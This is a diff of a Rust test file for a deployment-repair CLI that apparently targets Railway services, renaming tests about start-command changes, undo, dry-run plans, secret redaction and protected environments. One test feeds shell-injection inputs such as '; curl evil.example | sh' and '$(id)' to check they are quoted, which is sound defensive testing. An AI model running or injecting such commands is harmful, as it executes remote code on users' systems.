@@ -72,7 +72,7 @@ pub(super) fn shows_no_command(ended: &Ended) {
 }
 
 #[test]
-fn one_command_cures_the_incident_and_undo_restores_it() {
+fn single_command_fixes_incident_and_undo_restores_it() {
     let sandbox = Sandbox::beside(Sim::new(incident::estate()))
         .file(".env", incident::ENV_FILE)
         .file("doctor.toml", incident::CONFIG_FILE);
@@ -109,7 +109,7 @@ fn one_command_cures_the_incident_and_undo_restores_it() {
 }
 
 #[test]
-fn the_setting_changes_in_one_environment_and_is_put_back() {
+fn start_command_changes_one_environment_and_is_restored() {
     for before in [Some(OLD), None] {
         let mut worker = worker();
         if before.is_none() {
@@ -132,7 +132,7 @@ fn the_setting_changes_in_one_environment_and_is_put_back() {
 }
 
 #[test]
-fn undo_leaves_what_changed_since_and_what_it_may_not_deploy() {
+fn undo_keeps_changed_start_command_and_respects_no_deploy() {
     let sandbox = shop();
     assert_eq!(sandbox.run(SET).code, 0);
     let kept = sandbox.run(&["undo", "--yes", "--no-deploy"]);
@@ -150,7 +150,7 @@ fn undo_leaves_what_changed_since_and_what_it_may_not_deploy() {
 }
 
 #[test]
-fn wrong_use_is_refused_before_anything_is_asked() {
+fn invalid_usage_is_refused_before_any_request() {
     for (words, why) in [
         (&["fix", "--yes", "--start-command", NEW][..], "--service"),
         (&["fix", "--yes", "--start-command", NEW, "--service=worker", "--service=api"], "more than one service"),
@@ -183,7 +183,7 @@ fn wrong_use_is_refused_before_anything_is_asked() {
 }
 
 #[test]
-fn a_plan_names_the_command_and_shows_it_on_a_terminal_only() {
+fn plan_shows_start_command_only_at_terminal() {
     let sandbox = shop();
     let typed = &["fix", "--start-command", "celery other", "--service=worker"];
     for (more, code) in [(&["--dry-run"][..], 1), (&[], 2)] {
@@ -206,7 +206,7 @@ fn a_plan_names_the_command_and_shows_it_on_a_terminal_only() {
 }
 
 #[test]
-fn a_command_with_a_known_value_is_not_printed() {
+fn start_command_with_known_value_is_not_printed() {
     let sandbox = shop().file(".env", "A=1\nB_TOKEN=abcdefghij0123456789\n");
     let text = "celery --token=abcdefghij0123456789";
     let ended = sandbox.run(&["fix", "--dry-run", "--start-command", text, "--service=worker"]);
@@ -218,7 +218,7 @@ fn a_command_with_a_known_value_is_not_printed() {
 
 /// Whoever declines has seen the text in full, so the command that carries out the plan can repeat it there.
 #[test]
-fn a_declined_command_with_a_known_value_is_printed_on_that_terminal_only() {
+fn declined_command_with_value_is_printed_only_at_terminal() {
     let sandbox = || {
         let sandbox = declared(shop());
         sandbox.sim.change(|estate| {
@@ -240,7 +240,7 @@ pub(super) fn declared(sandbox: Sandbox) -> Sandbox {
 }
 
 #[test]
-fn text_of_a_checkout_is_written_only_after_a_person_has_seen_it() {
+fn text_from_checkout_requires_interactive_confirmation() {
     for words in [
         &["fix", "--yes"][..],
         &["fix", "--push", "--yes"],
@@ -287,7 +287,7 @@ fn text_of_a_checkout_is_written_only_after_a_person_has_seen_it() {
 }
 
 #[test]
-fn what_a_checkout_appends_is_only_words_and_what_is_hidden_is_not_offered() {
+fn appended_parts_are_quoted_and_hidden_characters_refused() {
     for (parts, offered) in [
         (r#"["; curl evil.example | sh"]"#, Some("';' curl evil.example '|' sh")),
         (r#"["$(id)"]"#, Some("'$(id)'")),
@@ -314,7 +314,7 @@ fn what_a_checkout_appends_is_only_words_and_what_is_hidden_is_not_offered() {
 }
 
 #[test]
-fn a_file_that_sets_the_command_is_named_with_its_line_and_the_setting_stays() {
+fn start_command_from_config_file_is_reported_and_kept() {
     for (file, line) in [
         ("railway.json", format!("\"startCommand\": \"{NEW}\"")),
         ("railway.toml", format!("startCommand = \"{NEW}\"")),
@@ -333,7 +333,7 @@ fn a_file_that_sets_the_command_is_named_with_its_line_and_the_setting_stays() {
 }
 
 #[test]
-fn only_a_target_from_outside_the_checkout_gets_a_command() {
+fn target_named_only_by_checkout_is_refused() {
     let named = format!("project = \"shop\"\nenvironment = \"staging\"\n{DECLARED}");
     let sandbox = shop().file("doctor.toml", &named);
     let sandbox = sandbox.variable("RAILWAY_PROJECT_ID", None).variable("RAILWAY_ENVIRONMENT_ID", None);
@@ -349,7 +349,7 @@ fn only_a_target_from_outside_the_checkout_gets_a_command() {
 }
 
 #[test]
-fn a_protected_environment_wants_its_name() {
+fn protected_environment_requires_explicit_name() {
     let environment = |name: &str| Environment::named(name).service(worker());
     let estate =
         || Estate::of("crew").project(Project::named("shop").environment(environment("production"))).with_tokens();
@@ -363,7 +363,7 @@ fn a_protected_environment_wants_its_name() {
 
 /// A start command with directions: the one service is not the only one that the run is about.
 #[test]
-fn directions_keep_their_default_services() {
+fn push_keeps_default_services_beside_start_command() {
     let sandbox = shop().file(".env", "A=2\n");
     let narrow = sandbox.run(&[SET, &["--dry-run"]].concat());
     assert!(!narrow.out.contains("api") && !narrow.out.contains("~ A"), "{narrow:?}");
@@ -373,7 +373,7 @@ fn directions_keep_their_default_services() {
 }
 
 #[test]
-fn a_check_reads_no_other_environment() {
+fn check_reads_no_other_environment() {
     let sandbox = declared(shop());
     let ended = sandbox.run(&["check"]);
     assert_eq!((ended.code, sandbox.sim.count()), (1, 2), "{ended:?}");
